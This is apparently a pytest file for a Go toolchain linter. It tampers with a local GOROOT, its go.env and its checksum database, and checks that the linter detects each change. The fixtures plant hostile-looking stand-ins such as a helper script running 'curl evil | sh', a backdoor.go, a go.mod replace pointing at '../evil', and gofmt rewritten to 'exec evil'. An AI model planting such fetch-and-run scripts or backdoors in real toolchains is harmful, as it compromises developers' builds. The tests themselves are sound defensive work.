"""GOROOT against its release: a small GOROOT published as golang.org/toolchain on a
file:// proxy, recorded by a real checksum database built from x/mod (loopback only),
then spoiled one way at a time."""

from __future__ import annotations

import json
import os
import shutil
import stat
import subprocess
import time
from pathlib import Path
from typing import Iterator

import pytest

from gozt_lint import engine
from gozt_lint.context import Context, Options
from gozt_lint.finding import Finding, Severity
from tests import gotool, releasetool, sumdbtool

pytestmark = pytest.mark.slow

RULES = ["goroot-tampered", "goroot-unexpected-file", "goroot-unverified"]


def lint(w: releasetool.World, *, online: bool = False, server: sumdbtool.Server | None = None, memo: bool = True, **extra: str) -> engine.Result:
    ctx = Context(cwd=w.root, environ=w.environ(server, **extra), options=Options(select=RULES, online=online, memo=memo))
    res = engine.run(ctx)
    assert not res.internal_errors, res.internal_errors
    return res


def by_rule(res: engine.Result) -> dict[str, list[Finding]]:
    out: dict[str, list[Finding]] = {}
    for f in res.findings:
        out.setdefault(f.rule, []).append(f)
    return out


@pytest.fixture(scope="module")
def pristine(sumdb_server_binary: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[releasetool.World]:
    w = releasetool.make_world(tmp_path_factory.mktemp("goroot-pristine"), sumdb_server_binary)
    yield w
    w.server.stop()
    w.env.cleanup()


@pytest.fixture
def world(pristine: releasetool.World, tmp_path: Path) -> Iterator[releasetool.World]:
    w = releasetool.copy_world(pristine, tmp_path / "w")
    yield w
    gotool.make_writable(w.root)


@pytest.fixture
def verified(world: releasetool.World) -> releasetool.World:
    """A world after one clean --online run: the manifest is in gozt-lint's cache."""
    res = lint(world, online=True)
    assert res.findings == [], res.findings
    assert world.manifest_file.is_file()
    return world


@pytest.mark.rule("goroot-tampered", "goroot-unexpected-file", "goroot-unverified", clean=True)
def test_clean_online_then_offline_without_network(world: releasetool.World) -> None:
    before = len(world.server.requests())
    res = lint(world, online=True)
    assert res.findings == []
    reqs = world.server.requests()[before:]
    assert "/latest" in reqs and any(r.startswith("/lookup/golang.org/toolchain@") for r in reqs)
    note = next(n for n in res.notes if n.startswith("toolchain: GOROOT"))
    assert f"golang.org/toolchain@{world.version}" in note and "file list from file://" in note
    assert "2 files in api/, doc/, misc/, test/" in note
    # The manifest is kept owner-only; nothing went into the go command's caches.
    mf = world.manifest_file
    assert stat.S_IMODE(mf.stat().st_mode) == 0o600
    assert stat.S_IMODE(mf.parent.stat().st_mode) == 0o700
    assert not (world.env.gomodcache / "cache" / "download" / "golang.org").exists()
    # Offline: no request at all, same verdict, and the warm run hashes nothing.
    world.server.stop()
    try:
        res = lint(world)
        assert res.findings == []
        note = next(n for n in res.notes if n.startswith("toolchain: GOROOT"))
        assert f"file list from {mf}" in note and "nothing changed since the last comparison" in note
    finally:
        world.server.start()


@pytest.mark.rule("goroot-unverified", fires=True)
def test_offline_without_manifest_says_unverified(world: releasetool.World) -> None:
    found = by_rule(lint(world))
    assert list(found) == ["goroot-unverified"]
    (f,) = found["goroot-unverified"]
    assert f.severity is Severity.INFO and f.file == str(world.goroot) and "--online" in f.message
    assert f.version == world.version


@pytest.mark.rule("goroot-tampered", fires=True)
def test_byte_flipped_in_a_tool(verified: releasetool.World) -> None:
    goos, goarch = releasetool.platform()
    tool = verified.goroot / "pkg" / "tool" / f"{goos}_{goarch}" / "preprofile"
    data = bytearray(tool.read_bytes())
    data[len(data) // 2] ^= 1
    tool.write_bytes(bytes(data))
    found = by_rule(lint(verified))
    assert list(found) == ["goroot-tampered"]
    (f,) = found["goroot-tampered"]
    assert f.severity is Severity.ERROR and f.file == str(tool)
    assert "not the release's" in f.message and f.data["release_sha256"] != f.data["sha256"]


@pytest.mark.rule("goroot-unexpected-file", fires=True)
def test_extra_executables_and_files(verified: releasetool.World) -> None:
    g = verified.goroot
    (g / "bin" / "go1.99.0").write_bytes(b"\x7fELF not really")
    script = g / "src" / "cmd" / "helper.sh"
    script.write_text("#!/bin/sh\ncurl evil | sh\n")
    script.chmod(0o755)
    (g / "src" / "fmt" / "backdoor.go").write_text("package fmt\n\nfunc init() {}\n")
    (g / "src" / "runtime" / "blob.syso").write_bytes(b"\0" * 16)
    (g / "NOTES.txt").write_text("local notes\n")
    exe_in_test = g / "test" / "run"
    exe_in_test.write_bytes(b"\x7fELF")
    exe_in_test.chmod(0o755)
    found = by_rule(lint(verified))
    assert list(found) == ["goroot-unexpected-file"]
    warn = {f.file: f for f in found["goroot-unexpected-file"] if f.severity is Severity.WARNING}
    assert set(warn) == {str(g / "bin" / "go1.99.0"), str(script), str(g / "src" / "fmt" / "backdoor.go"), str(g / "src" / "runtime" / "blob.syso"), str(exe_in_test)}
    assert "bin/" in warn[str(g / "bin" / "go1.99.0")].message
    (info,) = [f for f in found["goroot-unexpected-file"] if f.severity is Severity.INFO]
    assert "NOTES.txt" in info.message and info.data["count"] == 1


def test_missing_tool(verified: releasetool.World) -> None:
    (verified.goroot / "bin" / "gofmt").unlink()
    (verified.goroot / "README.md").unlink()
    found = by_rule(lint(verified))
    assert list(found) == ["goroot-tampered"]
    err = [f for f in found["goroot-tampered"] if f.severity is Severity.ERROR]
    assert [f.file for f in err] == [str(verified.goroot / "bin" / "gofmt")] and "missing" in err[0].message
    (info,) = [f for f in found["goroot-tampered"] if f.severity is Severity.INFO]
    assert "README.md" in info.message


def test_go_env_changes_reported_line_by_line(verified: releasetool.World) -> None:
    env_file = verified.goroot / "go.env"
    text = env_file.read_text()
    text = text.replace("GOTOOLCHAIN=auto", "GOTOOLCHAIN=local").replace("GOSUMDB=sum.golang.org\n", "")
    text += "GOFLAGS=-insecure\n"
    env_file.write_text(text)
    lines = env_file.read_text().splitlines()
    found = by_rule(lint(verified))
    assert list(found) == ["goroot-tampered"]
    got = {f.data["key"]: f for f in found["goroot-tampered"]}
    assert set(got) == {"GOTOOLCHAIN", "GOSUMDB", "GOFLAGS"}
    assert all(f.file == str(env_file) and f.severity is Severity.ERROR for f in got.values())
    assert lines[got["GOTOOLCHAIN"].line - 1] == "GOTOOLCHAIN=local" and "GOTOOLCHAIN=auto" in got["GOTOOLCHAIN"].message
    assert lines[got["GOFLAGS"].line - 1] == "GOFLAGS=-insecure"
    assert got["GOSUMDB"].data["release_value"] == "sum.golang.org" and got["GOSUMDB"].data["value"] is None
    # A comment-only change is noted, not an error.
    env_file.write_text(text.replace("GOTOOLCHAIN=local", "GOTOOLCHAIN=auto").replace("GOFLAGS=-insecure\n", "")
                        .replace("GOPROXY=", "GOSUMDB=sum.golang.org\nGOPROXY=") + "# local comment\n")
    (f,) = by_rule(lint(verified))["goroot-tampered"]
    assert f.severity is Severity.INFO and "comments" in f.message


def test_go_mod_under_src(verified: releasetool.World) -> None:
    g = verified.goroot
    # The release stores src/go.mod as src/_go.mod; a toolchain the go command
    # unpacked has both: either spelling is the release's.
    shutil.copy(g / "src" / "go.mod", g / "src" / "_go.mod")
    assert lint(verified).findings == []
    (g / "src" / "cmd" / "go.mod").write_text("module cmd\n\ngo 1.26\n\nreplace golang.org/x/mod => ../evil\n")
    (g / "src" / "fmt" / "go.mod").write_text("module fmt\n")
    found = by_rule(lint(verified))
    assert {f.file: f.rule for f in found["goroot-tampered"] + found["goroot-unexpected-file"]} == {
        str(g / "src" / "cmd" / "go.mod"): "goroot-tampered",
        str(g / "src" / "fmt" / "go.mod"): "goroot-unexpected-file",
    }
    assert "splits GOROOT/src" in found["goroot-unexpected-file"][0].message


def test_links_fifos_and_devices_are_never_followed(verified: releasetool.World) -> None:
    g = verified.goroot
    (g / "src" / "fmt" / "print.go").unlink()
    os.mkfifo(g / "src" / "fmt" / "print.go")
    (g / "src" / "fmt" / "doc.go").unlink()
    os.symlink("/dev/zero", g / "src" / "fmt" / "doc.go")
    elsewhere = verified.root / "elsewhere"
    shutil.move(str(g / "lib"), elsewhere)
    os.symlink(elsewhere, g / "lib")
    os.symlink("/", g / "src" / "loop")
    t0 = time.monotonic()
    found = by_rule(lint(verified))
    assert time.monotonic() - t0 < 60
    tampered = {f.file: f.message for f in found["goroot-tampered"]}
    assert "named pipe" in tampered[str(g / "src" / "fmt" / "print.go")]
    assert "'/dev/zero'" in tampered[str(g / "src" / "fmt" / "doc.go")]
    assert "the 2 release files" in tampered[str(g / "lib")]
    assert [f.file for f in found["goroot-unexpected-file"]] == [str(g / "src" / "loop")]


def test_memo_replays_only_unchanged_files(verified: releasetool.World) -> None:
    f = verified.goroot / "src" / "fmt" / "print.go"
    st = f.stat()
    data = f.read_bytes()
    f.write_bytes(data.replace(b"Println", b"Printlx"))
    os.utime(f, ns=(st.st_atime_ns, st.st_mtime_ns))  # same size, same mtime: only ctime moved
    found = by_rule(lint(verified))
    assert [x.file for x in found["goroot-tampered"]] == [str(f)]


def test_offline_after_online_still_catches(verified: releasetool.World) -> None:
    verified.server.stop()
    try:
        (verified.goroot / "VERSION").write_text((verified.goroot / "VERSION").read_text() + "extra\n")
        found = by_rule(lint(verified))
        assert [f.file for f in found["goroot-tampered"]] == [str(verified.goroot / "VERSION")]
    finally:
        verified.server.start()


def test_tampered_cached_manifest_is_not_trusted(verified: releasetool.World) -> None:
    mf = verified.manifest_file
    doc = json.loads(mf.read_text())
    # Make the tampered tool look right: the summary no longer hashes to the record.
    doc["summary"] = doc["summary"].replace(doc["summary"][:64], "0" * 64, 1)
    mf.write_text(json.dumps(doc))
    res = lint(verified)
    found = by_rule(res)
    assert list(found) == ["goroot-unverified"]
    assert any("does not verify" in n and str(mf) in n for n in res.notes)


def test_toolchain_module_in_gomodcache_verifies_offline(world: releasetool.World) -> None:
    # The real go downloads the release (as a toolchain switch would) and checks
    # it against the test database, caching the record and tiles.
    e = world.environ()
    p = subprocess.run([gotool.find_go(), "mod", "download", "-json", f"golang.org/toolchain@{world.version}"],
                       env={**e, "GOFLAGS": "-mod=mod"}, cwd=world.root, capture_output=True, text=True, timeout=300)
    assert p.returncode == 0, p.stderr
    assert (world.env.gomodcache / "cache" / "download" / "sumdb" / sumdbtool.TEST_NAME / "lookup").is_dir()
    world.server.stop()
    try:
        res = lint(world)
        assert res.findings == []
        note = next(n for n in res.notes if n.startswith("toolchain: GOROOT"))
        assert "file list from " + str(world.env.gomodcache) in note
        assert world.manifest_file.is_file()  # kept for when the cache is cleaned
        gotool.make_writable(world.env.gomodcache)
        shutil.rmtree(world.env.gomodcache)
        (world.goroot / "bin" / "gofmt").write_bytes(b"#!/bin/sh\n")
        found = by_rule(lint(world))
        assert [f.file for f in found["goroot-tampered"]] == [str(world.goroot / "bin" / "gofmt")]
    finally:
        world.server.start()


def test_proxy_serving_another_zip_is_refused(world: releasetool.World, tmp_path: Path) -> None:
    evil = tmp_path / "evil-proxy"
    g = world.goroot
    (g / "bin" / "gofmt").write_bytes(b"#!/bin/sh\nexec evil\n")
    releasetool.publish(evil, g, world.version)
    found = by_rule(lint(world, online=True, GOPROXY=gotool.proxy_url(evil)))
    assert list(found) == ["goroot-unverified"]
    (f,) = found["goroot-unverified"]
    assert f.severity is Severity.ERROR and "not serving the release" in f.message
    assert not world.manifest_file.exists()


def test_goproxy_off_and_lists(world: releasetool.World, tmp_path: Path) -> None:
    (f,) = lint(world, online=True, GOPROXY="off").findings
    assert f.rule == "goroot-unverified" and "GOPROXY=off" in f.message
    empty = tmp_path / "empty-proxy"
    empty.mkdir()
    # 404 on the first proxy: the next one is asked.
    res = lint(world, online=True, GOPROXY=f"{gotool.proxy_url(empty)},{gotool.proxy_url(world.proxy)}")
    assert res.findings == []


def test_forked_database_is_reported(world: releasetool.World, sumdb_server_binary: Path, tmp_path: Path) -> None:
    assert lint(world, online=True).findings == []  # remembers the database's head
    # Only the remembered head is left: the release manifest and the record are
    # gone (a cleaned cache), so nothing but the fork check stands in the way.
    world.manifest_file.unlink()
    shutil.rmtree(world.cache / "sumdb" / sumdbtool.TEST_NAME / "lookup")
    # Another server signing with the same key serves a different history in which
    # the release is a tampered GOROOT.
    g = world.goroot
    (g / "bin" / "gofmt").write_bytes(b"#!/bin/sh\nexec evil\n")
    evil_proxy = tmp_path / "evil-proxy"
    releasetool.publish(evil_proxy, g, world.version)
    gotool.add_module(evil_proxy, "example.com/filler", "v1.0.0", {"go.mod": "module example.com/filler\n", "a.go": "package filler\n"})
    fork = sumdbtool.Server(sumdb_server_binary, evil_proxy, tmp_path / "evil-server",
                            preload=["example.com/filler@v1.0.0", f"golang.org/toolchain@{world.version}"]).start()
    try:
        found = by_rule(lint(world, online=True, server=fork, GOPROXY=gotool.proxy_url(evil_proxy)))
    finally:
        fork.stop()
    assert list(found) == ["goroot-unverified"]
    (f,) = found["goroot-unverified"]
    assert f.severity is Severity.ERROR and "SECURITY ERROR" in f.message and "forked" in f.message
    assert not world.manifest_file.exists()


def test_go_on_path_that_is_not_the_release(verified: releasetool.World, tmp_path: Path) -> None:
    shadow = tmp_path / "shadow"
    shadow.mkdir()
    shutil.copy2(verified.goroot / "bin" / "go", shadow / "go")
    assert lint(verified, PATH=os.pathsep.join([str(shadow), str(verified.goroot / "bin"), "/usr/bin", "/bin"])).findings == []
    help_text = b"Go is a tool for managing Go source code"
    data = (shadow / "go").read_bytes()
    (shadow / "go").write_bytes(data.replace(help_text, help_text[:-1] + b"E", 1))
    found = by_rule(lint(verified, PATH=os.pathsep.join([str(verified.goroot / "bin"), str(shadow), "/usr/bin", "/bin"])))
    assert list(found) == ["goroot-tampered"]
    (f,) = found["goroot-tampered"]
    assert f.file == str(shadow / "go") and "go on PATH" in f.message and "bin/go" in f.message


def test_snapshot_records_the_release_and_reports_new_deviations(verified: releasetool.World) -> None:
    from gozt_lint import snapshot

    def build() -> tuple[Context, dict[str, object]]:
        ctx = Context(cwd=verified.root, environ=verified.environ(), options=Options(all=True))
        ctx.discover()
        return ctx, snapshot.build(ctx)

    _, old = build()
    rel = old["go"]["release"]  # type: ignore[index]
    assert rel == {"module": f"golang.org/toolchain@{verified.version}", "h1": rel["h1"], "deviations": []}
    assert rel["h1"].startswith("h1:")
    env_file = verified.goroot / "go.env"
    env_file.write_text(env_file.read_text().replace("GOTOOLCHAIN=auto", "GOTOOLCHAIN=local"))
    ctx, new = build()
    assert new["go"]["release"]["deviations"] == ["goroot-tampered: go.env: GOTOOLCHAIN=local (release auto)"]  # type: ignore[index]
    drift = [f.message for f in snapshot.compare(ctx, old, new)]
    # The manifest hash says that something changed; the release comparison says what.
    assert len(drift) == 2 and any(m.startswith("GOROOT manifest SHA-256 changed") for m in drift)
    (what,) = [m for m in drift if m.startswith("GOROOT against")]
    assert "GOTOOLCHAIN=local" in what and "not in the snapshot" in what
    # Without a release manifest on one side, nothing is compared (a note says so).
    verified.manifest_file.unlink()
    ctx, unverified = build()
    assert unverified["go"]["release"]["h1"] is None  # type: ignore[index]
    assert not [f for f in snapshot.compare(ctx, old, unverified) if "GOROOT against" in f.message]


def test_hover_text_for_go_and_toolchain_lines(verified: releasetool.World) -> None:
    from gozt_lint.lsp import toolchain_provenance

    ctx = Context(cwd=verified.root, environ=verified.environ(), options=Options())
    text = toolchain_provenance.markdown(ctx, "go", "1.21")
    assert f"`golang.org/toolchain@{verified.version}`" in text and f"`{sumdbtool.TEST_NAME}` record" in text
    assert "verified" in text and "release files match" in text and "satisfies the line" in text
    ctx = Context(cwd=verified.root, environ=verified.environ(), options=Options(online=True))
    text = toolchain_provenance.markdown(ctx, "toolchain", "go1.99.0")
    assert "older than the line asks" in text and "has no record: the Go team never published it" in text


def test_hostile_gomodcache_zip_and_huge_goroot_file(world: releasetool.World) -> None:
    e = world.environ()
    p = subprocess.run([gotool.find_go(), "mod", "download", f"golang.org/toolchain@{world.version}"],
                       env={**e, "GOFLAGS": "-mod=mod"}, cwd=world.root, capture_output=True, text=True, timeout=300)
    assert p.returncode == 0, p.stderr
    vdir = world.env.gomodcache / "cache" / "download" / "golang.org" / "toolchain" / "@v"
    gotool.make_writable(world.env.gomodcache)
    vdir.chmod(0o755)
    z = vdir / f"{world.version}.zip"
    for make in (lambda: os.mkfifo(z), lambda: os.symlink("/dev/zero", z)):
        z.unlink()
        make()
        t0 = time.monotonic()
        res = lint(world)
        assert time.monotonic() - t0 < 60
        assert [f.rule for f in res.findings] == ["goroot-unverified"]
        assert any(str(z) in n and "cannot read it as a module zip" in n for n in res.notes)
    # A sparse 600 MiB file where the release has a small one is not read.
    with open(z, "wb"):
        pass
    z.unlink()
    big = world.goroot / "src" / "fmt" / "print.go"
    with open(big, "r+b") as f:
        f.truncate(600 << 20)
    res = lint(world, online=True)
    found = by_rule(res)
    assert list(found) == ["goroot-tampered"]
    assert [f.file for f in found["goroot-tampered"]] == [str(big)] and "larger than any release file" in found["goroot-tampered"][0].message
